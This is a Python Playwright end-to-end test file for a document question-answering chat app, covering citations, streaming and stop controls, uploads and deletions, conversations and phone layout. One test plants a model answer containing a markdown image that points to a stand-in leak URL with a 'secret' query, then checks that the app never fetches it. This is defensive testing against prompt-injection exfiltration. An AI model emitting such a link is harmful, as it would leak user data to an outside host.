"""What a user does with the app, in a real browser: ask, open the cited page, go on asking, add and delete documents."""

import re
import threading

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import write_parking_rules

pytestmark = pytest.mark.e2e

QUESTION = "How many written quotations are required above USD 5,000?"
HAS_LOADED = "image => image.complete && image.naturalWidth > 0"


def ask(page: Page, question: str) -> None:
    box = page.get_by_role("textbox", name="Ask about your documents")
    box.fill(question)
    box.press("Enter")
    expect(page.get_by_role("group", name="Chat message from user").last).to_have_text(question)


def last_answer(page: Page):
    return page.get_by_role("group", name="Chat message from assistant").last


def expect_finished(page: Page) -> None:
    """The thumbs stand below finished answers only."""
    expect(last_answer(page).get_by_role("radio").first).to_be_visible()


def menu(page: Page, row, entry: str) -> None:
    row.hover()
    row.get_by_role("button", name="Actions").click()
    page.get_by_role("menuitem", name=entry).click()


def test_ask_open_the_cited_page_and_follow_up(app, open_page):
    page = open_page(app.url)
    expect(page.get_by_text("2 documents with 3 pages")).to_be_visible()
    ask(page, QUESTION)
    answer = last_answer(page)
    expect(answer).to_contain_text("Three written quotations are required")
    expect_finished(page)
    expect(page).to_have_url(re.compile(r"\?chat=[0-9a-f]{32}$"))

    answer.get_by_role("button", name=re.compile(r"Purchasing Rules · p\. 1")).first.click()
    panel = page.locator(".st-key-source_panel")
    picture = panel.get_by_role("img", name="Page 1 of Purchasing Rules, the cited passage highlighted")
    expect(picture).to_be_visible()
    assert picture.evaluate(HAS_LOADED)
    panel.get_by_role("button", name="Next page").click()
    expect(panel.get_by_role("img", name="Page 2 of Purchasing Rules", exact=True)).to_be_visible()
    panel.get_by_role("button", name="Next page").click()
    expect(panel.get_by_text("page 2 of 2")).to_be_visible()
    opened = page.request.get(app.url + panel.get_by_role("link", name="Open PDF").get_attribute("href").split("#")[0])
    assert opened.body() == (app.documents / "Purchasing_Rules.pdf").read_bytes()

    ask(page, "And how many up to USD 5,000?")  # while the page stays open beside the conversation
    expect(panel.get_by_role("img")).to_be_visible()
    page.keyboard.press("Escape")
    expect(panel.get_by_role("img")).to_have_count(0)
    expect(last_answer(page)).to_contain_text("One quotation is enough")
    expect_finished(page)
    last_answer(page).get_by_text("How I found this").click()
    expect(last_answer(page).get_by_text("Understood as")).to_be_visible()
    expect(last_answer(page).get_by_text("Ranked by meaning")).to_be_visible()


def test_the_opened_page_leaves_everything_beside_it_usable(app, open_page):
    page = open_page(app.url)
    ask(page, QUESTION)
    expect_finished(page)
    source = last_answer(page).get_by_role("button", name=re.compile(r"Purchasing Rules · p\. 1")).first
    source.click()
    picture = page.locator(".st-key-source_panel").get_by_role("img")
    expect(picture).to_be_visible()
    assert source.bounding_box()["x"] + source.bounding_box()["width"] <= picture.bounding_box()["x"], "beside, not under it"
    page.get_by_role("button", name="New question").click()
    expect(page.get_by_text("What would you like to know?")).to_be_visible()
    expect(page).to_have_url(f"{app.url}/")
    expect(picture).to_have_count(0)


def test_a_reload_before_the_address_is_there_leads_back_to_the_question(app, open_page):
    page = open_page(app.url)
    ask(page, QUESTION)
    page.goto(app.url)  # as when the address has not been renewed yet
    expect(page.get_by_role("group", name="Chat message from user")).to_have_text(QUESTION)
    expect_finished(page)


def test_too_long_a_question_stays_in_the_box(app, open_page):
    page = open_page(app.url)
    box = page.get_by_role("textbox", name="Ask about your documents")
    box.fill("quotations " * 300)
    box.press("Enter")
    expect(page.get_by_text("has 3,299 characters, and 2,000 are the most")).to_be_visible()
    expect(box).to_have_value(("quotations " * 300).strip())


def test_on_a_phone_the_question_and_the_first_line_are_in_sight_and_the_sidebar_is_not(app, open_page):
    page = open_page(app.url, width=390, height=500)
    for question in (QUESTION, "How long are bids for an open tender received?", QUESTION):
        ask(page, question)
        expect(page.get_by_role("button", name="Stop")).to_have_count(0)
        expect_finished(page)
        asked = page.get_by_role("group", name="Chat message from user").last
        expect(asked).to_be_in_viewport(ratio=1)
        expect(last_answer(page).locator("p").first).to_be_in_viewport(ratio=1)
    page.get_by_test_id("stExpandSidebarButton").click()
    page.get_by_role("button", name="New question").click()
    expect(page.get_by_text("What would you like to know?")).to_be_visible()
    expect(page.get_by_test_id("stExpandSidebarButton")).to_be_visible()


def test_an_uploaded_document_is_answered_from_and_a_deleted_one_is_not(app, open_page, tmp_path):
    page = open_page(f"{app.url}/documents")
    expect(page.get_by_text("3 of 3 pages searchable")).to_be_visible()
    page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(write_parking_rules(tmp_path))
    expect(page.get_by_text("Parking_Rules.pdf was added and is being indexed.")).to_be_visible()
    expect(page.get_by_text("4 of 4 pages searchable")).to_be_visible()

    page.get_by_role("button", name="New question").click()
    ask(page, "What does a parking permit cost a month?")
    expect(last_answer(page)).to_contain_text("A parking permit costs USD 35 a month")
    expect_finished(page)

    page.get_by_role("link", name="Documents").click()
    menu(page, page.locator("[class*=st-key-document_all_]").filter(has_text="Parking_Rules.pdf"), "Delete")
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(page.get_by_text("3 of 3 pages searchable")).to_be_visible()
    assert not (app.documents / "Parking_Rules.pdf").exists()

    page.get_by_role("button", name="New question").click()
    ask(page, "What does a parking permit cost a month?")
    expect(last_answer(page)).to_contain_text("I could not find this in the documents.")
    expect(last_answer(page)).not_to_contain_text("USD 35")


class Gate:
    """The words of a model that goes on after the first ones when the test opens the gate."""

    def __init__(self, *words: str) -> None:
        self.words = words
        self.opened = threading.Event()

    def __iter__(self):
        first, *rest = self.words
        yield first
        self.opened.wait(60)
        yield from rest


@pytest.fixture
def gate(ollama):
    gates = []

    def gate(*words):
        ollama.words = Gate(*words)
        gates.append(ollama.words)
        return ollama.words

    yield gate
    for made in gates:
        made.opened.set()


def test_an_answer_survives_a_reload_in_its_middle(model_app, open_page, gate):
    words = gate("Three written quotations ", "are required above USD 5,000 [1].")
    page = open_page(model_app.url)
    expect(page.get_by_text("Answers by")).to_be_visible()
    ask(page, QUESTION)
    expect(last_answer(page)).to_contain_text("Three written quotations")
    page.reload()
    expect(last_answer(page)).to_contain_text("Three written quotations")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    words.opened.set()
    expect(last_answer(page)).to_contain_text("are required above USD 5,000")
    expect_finished(page)
    expect(last_answer(page)).to_contain_text(re.compile("Found on the cited pages: .*USD 5,000"))
    expect(page.get_by_role("button", name="Stop")).to_have_count(0)


def test_stop_keeps_the_words_and_the_next_try_answers_in_their_place(model_app, open_page, gate):
    words = gate("Three written quotations ", "are never said.")
    page = open_page(model_app.url)
    ask(page, QUESTION)
    expect(last_answer(page)).to_contain_text("Three written quotations")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    expect(last_answer(page)).to_contain_text("Three written quotations")
    words.opened.set()
    gate("Three ", "are required [1].").opened.set()
    page.get_by_role("button", name="Try again").click()
    expect(last_answer(page)).to_contain_text("are required")
    expect(page.get_by_text("You stopped this answer.")).to_have_count(0)
    expect(page.get_by_role("group", name="Chat message from assistant")).to_have_count(1)


def test_an_answer_is_stopped_before_its_first_word_and_left_alone_while_it_is_written(model_app, open_page, gate):
    words = gate("", "never said")
    page = open_page(model_app.url)
    ask(page, QUESTION)
    stop = page.get_by_role("button", name="Stop")
    before = stop.bounding_box()
    stop.click()
    expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    words.opened.set()
    gate("Three ", "are required [1].")
    page.get_by_role("button", name="Try again").click()
    expect(last_answer(page)).to_contain_text("Three")
    assert stop.bounding_box() == before, "in the same place, however long the answer is"
    page.get_by_role("button", name="New question").click()
    expect(page.get_by_text("What would you like to know?")).to_be_visible()
    expect(page).to_have_url(f"{model_app.url}/")


def test_a_picture_that_a_model_was_talked_into_is_never_fetched(model_app, open_page, gate):
    gate("See ", "![chart](http://192.0.2.1/leak?q=secret) [1].").opened.set()
    page = open_page(model_app.url)
    ask(page, QUESTION)
    expect_finished(page)
    expect(last_answer(page).locator("img")).to_have_count(0)


def test_conversations_are_kept_renamed_and_deleted_and_are_not_others(model_app, open_page, gate):
    gate("Three ", "are required [1].").opened.set()
    page = open_page(model_app.url)
    ask(page, QUESTION)
    expect_finished(page)
    row = page.locator("[class*=st-key-selected_row_]")
    expect(row).to_contain_text("How many written quotations")
    other = open_page(model_app.url)
    expect(other.get_by_text("What would you like to know?")).to_be_visible()
    expect(other.get_by_text("How many written quotations")).to_have_count(0)

    menu(page, row, "Rename")
    page.get_by_role("textbox", name="Name").fill("Quotations and all that one has to know of them " * 4)
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("dialog").get_by_text("80 are the most that fit")).to_be_visible()
    page.get_by_role("textbox", name="Name").fill("Quotations")
    page.get_by_role("button", name="Save").click()
    expect(row).to_contain_text("Quotations")
    page.reload()
    expect(last_answer(page)).to_contain_text("are required")
    menu(page, row, "Delete")
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(page.get_by_text("What would you like to know?")).to_be_visible()
    expect(row).to_have_count(0)
    expect(page).to_have_url(f"{model_app.url}/")


@pytest.mark.parametrize("path", ["", "/documents", "/search?words=tender", "/glossary"])
def test_no_page_is_wider_than_a_phone(app, open_page, path):
    page = open_page(f"{app.url}{path}", width=390, height=844)
    if path:
        expect(page.get_by_test_id("stHeading").first).to_be_visible()
    else:
        ask(page, QUESTION)
        expect_finished(page)
        last_answer(page).get_by_role("button", name=re.compile("Purchasing Rules")).first.click()
        expect(page.locator(".st-key-source_panel").get_by_role("img")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.get_by_test_id("stApp").evaluate("app => app.scrollWidth") <= 390
